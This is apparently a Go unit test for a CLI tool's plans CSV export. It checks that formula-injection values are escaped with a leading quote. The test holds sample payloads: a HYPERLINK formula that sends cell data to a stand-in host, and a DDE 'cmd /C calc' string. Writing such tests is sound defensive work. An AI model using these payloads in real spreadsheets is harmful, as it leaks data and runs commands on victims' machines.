package cli

import (
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
)

// A unit head's plan is read by the agency's admin in a spreadsheet: an
// owner or actions typed as a formula must reach it as text, never run.
// The plan itself keeps what was typed.
func TestPlansExportNeverRunsAFormula(t *testing.T) {
	dbPath := newDB(t, filepath.Join(t.TempDir(), "p.db"))
	org := writeFile(t, "org.csv", "id,parent,name,headcount\nR,,Kementerian R,200\nA,R,Biro A,60\n")
	for _, args := range [][]string{{"org", "import", org}, {"survey", "create", "2025"}} {
		if _, stderr, code := run(t, append(args, "--db", dbPath)...); code != 0 {
			t.Fatal(stderr)
		}
	}
	owner := `=HYPERLINK("http://x.example/?"&A1,"klik")`
	actions := "@SUM(1+1)*cmd|' /C calc'!A0"
	if _, stderr, code := run(t, "plan", "add", "--survey", "2025", "--unit", "A", "--focus", "adaptif",
		"--actions", actions, "--owner", owner, "--due", "2026-06", "--db", dbPath); code != 0 {
		t.Fatal(stderr)
	}
	out, stderr, code := run(t, "export", "--format", "plans-csv", "--db", dbPath)
	if code != 0 {
		t.Fatal(stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("plans-csv: %v\n%s", err, out)
	}
	if got := rows[1][4]; got != "'"+actions {
		t.Errorf("actions cell %q, want %q", got, "'"+actions)
	}
	if got := rows[1][5]; got != "'"+owner {
		t.Errorf("owner cell %q, want %q", got, "'"+owner)
	}
	if rows[1][1] != "A" || rows[1][6] != "2026-06" {
		t.Errorf("the other cells changed: %q", rows[1])
	}
	list, _, _ := run(t, "plan", "list", "--survey", "2025", "--json", "--db", dbPath)
	if !strings.Contains(list, `"owner": "=HYPERLINK(`) {
		t.Errorf("the stored plan is not what was typed: %s", list)
	}
}
